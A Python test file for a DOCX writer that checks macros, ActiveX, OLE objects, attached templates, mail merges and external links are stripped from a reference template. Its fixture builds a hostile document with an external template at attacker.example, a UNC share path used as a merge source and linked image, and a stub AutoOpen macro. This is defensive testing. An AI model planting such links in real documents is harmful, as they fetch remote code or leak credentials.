"""A reference document passes on its styles, page and headers, never code or links that Word
follows by itself: macros, customUI, ActiveX, OLE objects, attached templates, mail merges and
external pictures are dropped from every DOCX written with it (`writers.docx.scrub`)."""
from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest

from briefkit.writers.docx import default_reference_docx
from docx_fixtures import every_node_document, write

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
UNC = r"\\attacker.example\share\t.dotm"


def _rels(*rels: tuple[str, str, str, bool]) -> str:
    items = "".join(f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
                    + (' TargetMode="External"' if external else "") + "/>"
                    for rid, kind, target, external in rels)
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL_NS}">{items}</Relationships>'


HEADER = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}" xmlns:r="{R}" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<w:p><w:r><w:t>HOUSE HEADER</w:t></w:r></w:p>'
    '<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rIdPic"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rIdOle"/></w:object></w:r></w:p>'
    '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="Button1"/></w:object></w:r></w:p>'
    '<w:p><w:r><a:blip r:link="rIdLinked"/></w:r></w:p>'
    '<w:p><w:hyperlink r:id="rIdSite"><w:r><w:t>house site</w:t></w:r></w:hyperlink></w:p>'
    '</w:hdr>'
)
MAIL_MERGE = (f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
              f'<w:dataType w:val="native"/><w:connectString w:val="Provider=x;Data Source={UNC}"/>'
              f'<w:query w:val="SELECT * FROM x"/><w:dataSource r:id="rIdData"/></w:mailMerge>')


def hostile_reference(path: Path) -> Path:
    """The default reference with, added as Word writes them: a macro project (related from
    the document, its content type overridden), a ribbon customisation, an external attached
    template and a mail merge from a UNC path (settings), and a header holding an embedded OLE
    object, an ActiveX control, an externally linked picture and a hyperlink. Named .dotm, it
    is a macro-enabled template, which briefkit accepts as a reference."""
    src = zipfile.ZipFile(io.BytesIO(default_reference_docx()))
    parts = {name: src.read(name) for name in src.namelist()}
    types = parts["[Content_Types].xml"].decode()
    if path.suffix == ".dotm":
        types = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                              "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    types = types.replace("</Types>", (
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/header1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
        '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        '<Override PartName="/customUI/customUI14.xml" ContentType="application/xml"/></Types>'))
    parts["[Content_Types].xml"] = types.encode()
    rels = parts["word/_rels/document.xml.rels"].decode().replace("</Relationships>", (
        f'<Relationship Id="rIdVba" Type="{MS}/vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdHdr" Type="{R}/header" Target="header1.xml"/></Relationships>'))
    parts["word/_rels/document.xml.rels"] = rels.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = AutoOpen Shell calc"
    parts["_rels/.rels"] = parts["_rels/.rels"].decode().replace("</Relationships>", (
        '<Relationship Id="rIdUi" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" '
        'Target="customUI/customUI14.xml"/></Relationships>')).encode()
    parts["customUI/customUI14.xml"] = b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>'
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", lambda m: m[1] + f'<w:attachedTemplate r:id="rIdTpl"/>' + MAIL_MERGE,
                      settings, count=1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("rIdTpl", f"{R}/attachedTemplate", "http://attacker.example/t.dotm", True),
        ("rIdData", f"{R}/mailMergeSource", "file:///" + UNC, True)).encode()
    document = parts["word/document.xml"].decode()
    document = re.sub(r"(<w:sectPr[^>]*>)", lambda m: m[1] + '<w:headerReference w:type="default" r:id="rIdHdr"/>',
                      document, count=1)
    parts["word/document.xml"] = document.encode()
    parts["word/header1.xml"] = HEADER.encode()
    parts["word/_rels/header1.xml.rels"] = _rels(
        ("rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin", False),
        ("rIdPic", f"{R}/image", "media/image1.png", False),
        ("rIdAx", f"{R}/control", "activeX/activeX1.xml", False),
        ("rIdLinked", f"{R}/image", UNC, True),
        ("rIdSite", f"{R}/hyperlink", "https://house.example/", True)).encode()
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 embedded package"
    parts["word/activeX/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{x}"/>'
    parts["word/activeX/_rels/activeX1.xml.rels"] = _rels(
        ("rId1", f"{MS}/activeXControlBinary", "activeX1.bin", False)).encode()
    parts["word/activeX/activeX1.bin"] = b"\xd0\xcf\x11\xe0 control"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def _all_text(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name).decode("utf-8", "replace") for name in z.namelist()}


def test_the_hostile_reference_is_what_word_would_run(tmp_path):
    """The test's own premise: python-docx reads every added part of the reference."""
    d = docx.Document(str(hostile_reference(tmp_path / "house.docx")))
    names = {str(p.partname) for p in d.part.package.iter_parts()}
    assert {"/word/vbaProject.bin", "/customUI/customUI14.xml", "/word/embeddings/oleObject1.bin",
            "/word/activeX/activeX1.bin", "/word/header1.xml"} <= names


@pytest.mark.parametrize("name", ["house.docx", "house.dotm"])
def test_no_macro_control_object_or_external_link_reaches_the_output(tmp_path, name):
    data = write(every_node_document(), reference=hostile_reference(tmp_path / name))
    parts = _all_text(data)
    assert not [n for n in parts if re.search(r"vba|customUI|activeX|embeddings|\.bin$", n, re.I)], list(parts)
    everything = "\n".join(parts.values())
    for needle in ("vbaProject", "ui/extensibility", "activeX", "oleObject", "attachedTemplate", "mailMerge",
                   "mailMergeSource", "attacker.example", "connectString"):
        assert needle not in everything, needle
    external = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', everything)
    assert all('relationships/hyperlink"' in rel for rel in external), external
    assert "macroEnabled" not in parts["[Content_Types].xml"] and "document.main+xml" in parts["[Content_Types].xml"]


def test_what_the_reference_may_give_is_kept(tmp_path):
    """Its header (text, the embedded picture, a hyperlink a reader may click) stays, and
    nothing left in it names a relationship that is gone."""
    data = write(every_node_document(), reference=hostile_reference(tmp_path / "house.docx"))
    parts = _all_text(data)
    header = parts["word/header1.xml"]
    assert "HOUSE HEADER" in header and 'r:id="rIdPic"' in header and "house site" in header
    rels = parts["word/_rels/header1.xml.rels"]
    assert "https://house.example/" in rels and "media/image1.png" in rels
    ids = set(re.findall(r'Id="([^"]+)"', rels))
    assert set(re.findall(r'r:(?:id|link|embed)="([^"]+)"', header)) <= ids
    d = docx.Document(io.BytesIO(data))  # and the package still opens
    assert "HOUSE HEADER" in d.sections[-1].header.paragraphs[0].text
